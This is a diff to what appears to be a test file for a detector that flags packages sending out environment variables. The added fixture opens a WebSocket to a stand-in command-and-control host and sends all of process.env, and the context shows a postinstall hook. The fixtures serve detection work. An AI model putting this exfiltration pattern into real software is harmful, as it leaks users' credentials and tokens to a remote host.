@@ -6,6 +6,11 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'the handler of a socket sends it',
+      files: { 'index.js': `const w = new WebSocket('wss://c2.invalid'); w.onopen = () => w.send(JSON.stringify(process.env))` },
+      weight: 'proof',
+    },
+    {
       when: 'a hook posts all of it',
       files: {
         'package.json': hook,
